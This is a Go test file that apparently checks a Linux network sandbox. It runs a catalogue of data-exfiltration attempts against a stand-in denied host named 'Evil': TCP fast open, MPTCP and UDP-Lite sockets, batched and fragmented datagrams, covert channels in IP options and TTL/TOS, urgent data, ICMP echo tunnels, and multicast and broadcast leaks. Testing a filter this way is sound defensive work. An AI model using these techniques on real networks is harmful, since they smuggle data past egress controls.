//go:build linux

package gauntlet

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"strconv"
	"syscall"
	"time"

	"golang.org/x/net/ipv4"
	"golang.org/x/sys/unix"

	"github.com/weir-dev/weir/internal/playground"
)

// shopEcho is the one port that most of these rows allow.
var shopEcho = []string{"--mode", "enforce", "--allow", Shop.String() + ":7"}

// unprivilegedRows need no capability: what sockets let every program do. Two are Leaked for the sake of the filter of system
// calls, which refuses those sockets.
func unprivilegedRows() []Row {
	return []Row{
		{
			ID: "packets/fast-open", Vector: "data in the SYN to a server that is denied (TCP fast open without a cookie)", Right: "nothing is dialled, the data goes nowhere",
			Source: "security.md 2.3", Prepare: tokenOnWire, Harm: onWire(1), Record: deniedAt(Evil, "dest_port=80 protocol=tcp"),
			Attack: func(a *Attacker) error {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_NO_COOKIE, 1); err != nil {
					return err
				}
				if err := unix.Sendto(fd, []byte(a.Token), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: 80, Addr: Evil.As4()}); err != nil {
					return err
				}
				_, err = unix.Read(fd, make([]byte, 16)) // the answer, or the refusal
				return err
			},
		},
		{
			ID: "packets/multipath", Vector: "a multipath TCP socket, which rules for TCP may not know", Right: "there is no such socket; if there were, it is TCP: denied",
			Source: "security.md 1, Landlock and MPTCP", Lacks: lacksSocket(unix.SOCK_STREAM, unix.IPPROTO_MPTCP, "multipath TCP"),
			Leaked: true, Harm: Heard, Record: deniedAt(Evil, "dest_port=80 protocol=tcp"),
			Attack: func(a *Attacker) error {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, unix.IPPROTO_MPTCP)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				if err := unix.Connect(fd, &unix.SockaddrInet4{Port: 80, Addr: Evil.As4()}); err != nil {
					return err
				}
				_, err = unix.Write(fd, []byte(a.Token))
				return err
			},
		},
		{
			ID: "packets/udp-lite", Vector: "UDP-Lite, which is neither UDP nor TCP, to a server that is allowed", Right: "there is no such socket; if there were, its packets are refused and counted",
			Lacks: lacksSocket(unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE, "UDP-Lite"), Leaked: true, Rules: anyShop,
			Prepare: tokenOnWire, Harm: onWire(1), Record: dropped("drop-unknown-protocol"),
			Attack: func(a *Attacker) error {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_UDPLITE)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				return errors.Join(unix.Sendto(fd, []byte(a.Token), 0, &unix.SockaddrInet4{Port: 7, Addr: Shop.As4()}), a.linger())
			},
		},
	}
}

// datagramRows do odd things with datagrams.
func datagramRows() []Row {
	return []Row{
		{
			ID: "packets/sendmmsg", Vector: "one call with datagrams for an allowed server and for a denied one, on one socket", Right: "each is judged by itself",
			Source: "harden-runner GHSA-cpmj-h4f6-r6pq", Rules: shopEcho, Harm: Heard, Record: deniedAt(Evil, "dest_port=7 protocol=udp"), Check: honestHeard,
			Attack: func(a *Attacker) error {
				pc, err := net.ListenPacket("udp4", ":0")
				if err != nil {
					return err
				}
				defer pc.Close()
				n, err := ipv4.NewPacketConn(pc).WriteBatch([]ipv4.Message{
					{Buffers: [][]byte{[]byte(mirrored(a.Token))}, Addr: net.UDPAddrFromAddrPort(netip.AddrPortFrom(Shop, 7))},
					{Buffers: [][]byte{[]byte(a.Token)}, Addr: net.UDPAddrFromAddrPort(netip.AddrPortFrom(Evil, 7))},
				}, 0)
				if err == nil && n != 2 {
					err = fmt.Errorf("%d of 2 datagrams", n)
				}
				return errors.Join(err, a.linger())
			},
		},
		{
			ID: "packets/segmented-datagrams", Vector: "many datagrams to a denied server in one buffer that the device cuts (UDP_SEGMENT)", Right: "denied, each of them",
			Harm: Heard, Record: deniedAt(Evil, "dest_port=7 protocol=udp"),
			Attack: func(a *Attacker) error {
				c, err := dial("udp", at(Evil, 7))
				if err != nil {
					return err
				}
				defer c.Close()
				if err := control(c, func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_UDP, unix.UDP_SEGMENT, len(a.Token)) }); err != nil {
					return err
				}
				return outcry(c, bytes.Repeat([]byte(a.Token), 20))
			},
		},
		{
			ID: "packets/largest-datagram", Vector: "a datagram of 65,507 octets to a denied server, in 45 fragments", Right: "denied as one",
			Harm: Heard, Record: deniedAt(Evil, "dest_port=7 protocol=udp"),
			Attack: func(a *Attacker) error {
				c, err := dial("udp", at(Evil, 7))
				if err != nil {
					return err
				}
				defer c.Close()
				return outcry(c, append(make([]byte, 65507-len(a.Token)), a.Token...))
			},
		},
	}
}

// channelRows say something beside the payload.
func channelRows() []Row {
	return []Row{
		{
			ID: "packets/options-channel", Vector: "words in the IP options of packets to an allowed server", Right: "headers end at the stack: only the payload goes on",
			Rules: shopEcho, Prepare: tokenOnWire, Harm: onWire(1), Check: honestHeard,
			Attack: func(a *Attacker) error {
				c, err := dial("udp4", at(Shop, 7))
				if err != nil {
					return err
				}
				defer c.Close()
				room := make([]byte, 20) // a record route that is full already: routers leave it as it is
				copy(room, a.Token)
				options := append([]byte{7, byte(3 + len(room)), byte(4 + len(room))}, room...)
				if err := control(c, func(fd int) error { return unix.SetsockoptString(fd, unix.SOL_IP, unix.IP_OPTIONS, string(options)) }); err != nil {
					return err
				}
				return tell(c, mirrored(a.Token))
			},
		},
		{
			ID: "packets/header-channel", Vector: "words in TTL and traffic class of packets to an allowed server", Right: "both are the host's own",
			Rules: shopEcho, Harm: onWire(1), Check: honestHeard,
			Prepare: func(s *Stage) error {
				said := []byte(mirrored(s.Token))
				return s.watchWire(func(f []byte) bool { return bytes.Contains(f, said) && f[15] == 0x48 && f[22] == 201 })
			},
			Attack: func(a *Attacker) error {
				c, err := dial("udp4", at(Shop, 7))
				if err != nil {
					return err
				}
				defer c.Close()
				p := ipv4.NewConn(c)
				if err := errors.Join(p.SetTTL(201), p.SetTOS(0x48)); err != nil {
					return err
				}
				return tell(c, mirrored(a.Token))
			},
		},
		{
			ID: "packets/urgent-data", Vector: "an urgent octet that the server does not read and a watcher does", Right: "what is judged is what the server reads",
			Source: "security.md 1, libslirp CVE-2026-9539", Rules: []string{"--mode", "enforce", "--allow", Shop.String() + ":80"},
			Harm: Heard,
			Attack: func(a *Attacker) error {
				c, err := dial("tcp", at(Shop, 80))
				if err != nil {
					return err
				}
				defer c.Close()
				if err := tell(c, "hello"); err != nil {
					return err
				}
				half := len(a.Token) / 2
				if _, err := io.WriteString(c, a.Token[:half]); err != nil {
					return err
				}
				if err := control(c, func(fd int) error { return unix.Sendto(fd, []byte("X"), unix.MSG_OOB, nil) }); err != nil {
					return err
				}
				_, err = io.WriteString(c, a.Token[half:])
				return err
			},
		},
	}
}

// echoRows use what is neither TCP nor UDP, or the other direction.
func echoRows() []Row {
	return []Row{
		{
			ID: "packets/echo-tunnel", Vector: "words in the payload of echo requests to a server that is denied", Right: "denied",
			Source: "nono #909; security.md 2.4", Lacks: lacksPing, Prepare: tokenOnWire, Harm: onWire(1),
			Lifted: []string{"--mode", "enforce", "--allow", Evil.String() + "/icmp"},
			Record: deniedAt(Evil, "protocol=icmp"),
			Attack: func(a *Attacker) error { return ping(Evil, []byte(a.Token), true) },
		},
		{
			ID: "packets/huge-echo", Vector: "echo requests of 30,000 octets to a server that may be pinged", Right: "echo is for seeing who is there: dropped and counted",
			Source: "security.md 2.4", Lacks: lacksPing, Prepare: tokenOnWire, Harm: onWire(1),
			Rules: []string{"--mode", "enforce", "--allow", Shop.String() + "/icmp", "--allow", Shop.String() + ":7"}, Record: dropped("drop-icmp-size"),
			Attack: func(a *Attacker) error {
				return errors.Join(ping(Shop, append([]byte(a.Token), make([]byte, 30_000)...), false), a.linger())
			},
		},
		{
			ID: "packets/inbound", Vector: "listen on every address and be called from the internet", Right: "nothing comes in that was not published",
			Source: "podman #24045; security.md 2.4", Rules: anyShop,
			Prepare: func(s *Stage) error {
				s.Args["port"] = strconv.Itoa(20_000 + int(s.Token[3])*256 + int(s.Token[5]))
				return s.callIn()
			},
			Attack: (*Attacker).beCalled,
		},
	}
}

// groupRows speak to more than one.
func groupRows() []Row {
	datagram := func(to string, prepare func(fd int) error) func(*Attacker) error {
		return func(a *Attacker) error {
			c, err := (&net.Dialer{Control: func(_, _ string, raw syscall.RawConn) error { return onDescriptor(raw, prepare) }}).Dial("udp", to)
			if err != nil {
				return err
			}
			defer c.Close()
			_, err = io.WriteString(c, a.Token)
			return errors.Join(err, a.linger())
		}
	}
	broadcast := func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1) }
	audit := []string{"--mode", "audit"}
	return []Row{
		{
			ID: "packets/multicast", Vector: "a datagram to a group of the host's link (mDNS)", Right: "groups are never left to: dropped and counted, in audit mode too",
			Source: "security.md 2.2", Rules: audit, Prepare: tokenOnWire, Harm: onWire(1), Record: dropped("drop-multicast"),
			Attack: datagram("224.0.0.251:5353", nil),
		},
		{
			ID: "packets/broadcast", Vector: "a datagram to everybody on the host's link", Right: "dropped and counted, in audit mode too",
			Rules: audit, Prepare: tokenOnWire, Harm: onWire(1), Record: dropped("drop-foreign-mac"),
			Attack: datagram("255.255.255.255:7", broadcast),
		},
		{
			ID: "packets/join-group", Vector: "join a group, so that the host's network sends its traffic here (IGMP)", Right: "the report goes no further than the stack",
			Rules: audit, Harm: onWire(1), Record: dropped("drop-multicast"),
			Prepare: func(s *Stage) error {
				group := groupOf(s.Token)
				return s.watchWire(func(f []byte) bool { return len(f) > 34 && f[23] == unix.IPPROTO_IGMP && bytes.Contains(f[34:], group) })
			},
			Attack: func(a *Attacker) error {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				err = unix.SetsockoptIPMreq(fd, unix.SOL_IP, unix.IP_ADD_MEMBERSHIP, &unix.IPMreq{Multiaddr: [4]byte(groupOf(a.Token))})
				time.Sleep(100 * time.Millisecond) // the report is sent a moment later
				return errors.Join(err, a.linger())
			},
		},
	}
}

// groupOf is a multicast group of the attacker's own.
func groupOf(token string) []byte {
	mac := forgedMAC(token)
	return []byte{239, mac[1], mac[2], mac[3]}
}

// callIn has the internet call the host's port until the run is over, to say the token.
func (s *Stage) callIn() error {
	over := make(chan struct{})
	s.Defer(func() { close(over) })
	to := net.JoinHostPort(playground.Host4.Addr().String(), s.Args["port"])
	go func() {
		for {
			select {
			case <-over:
				return
			case <-time.After(5 * time.Millisecond):
			}
			s.World.Internet(func() error {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				a := netip.MustParseAddrPort(to)
				if err := unix.Connect(fd, &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}); err != nil {
					return err
				}
				_, err = unix.Write(fd, []byte(s.Token))
				return err
			})
		}
	}()
	return nil
}

// beCalled waits for somebody who connects to the stage's port and says the token.
func (a *Attacker) beCalled() error {
	ln, err := net.Listen("tcp", ":"+a.Args["port"])
	if err != nil {
		return err
	}
	defer ln.Close()
	ln.(*net.TCPListener).SetDeadline(time.Now().Add(time.Second))
	c, err := ln.Accept()
	if err != nil {
		return err
	}
	defer c.Close()
	b, err := io.ReadAll(c)
	return errors.Join(err, a.contains(b))
}

// ping sends one echo request by a ping socket, and may wait for what becomes of it.
func ping(to netip.Addr, payload []byte, wait bool) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 1<<18)
	if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: to.As4()}); err != nil {
		return err
	}
	if _, err := unix.Write(fd, append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, payload...)); err != nil || !wait {
		return err
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: int64(patience / time.Second)})
	_, err = unix.Read(fd, make([]byte, 1500))
	return err
}

// lacksPing lets everybody on the host ping, if that can be done.
func lacksPing() string {
	group := strconv.Itoa(os.Getgid())
	if os.WriteFile("/proc/sys/net/ipv4/ping_group_range", []byte(group+" "+group), 0) != nil {
		return "ping sockets"
	}
	return ""
}

// lacksSocket says whether the kernel has no such sockets.
func lacksSocket(kind, protocol int, what string) func() string {
	return func() string {
		fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, protocol)
		if err != nil {
			return what
		}
		unix.Close(fd)
		return ""
	}
}

// control does something with the descriptor of a connection.
func control(c net.Conn, f func(fd int) error) error {
	raw, err := c.(interface {
		SyscallConn() (syscall.RawConn, error)
	}).SyscallConn()
	if err != nil {
		return err
	}
	return onDescriptor(raw, f)
}

func onDescriptor(raw syscall.RawConn, f func(fd int) error) (err error) {
	if f == nil {
		return nil
	}
	cerr := raw.Control(func(fd uintptr) { err = f(int(fd)) })
	return errors.Join(cerr, err)
}
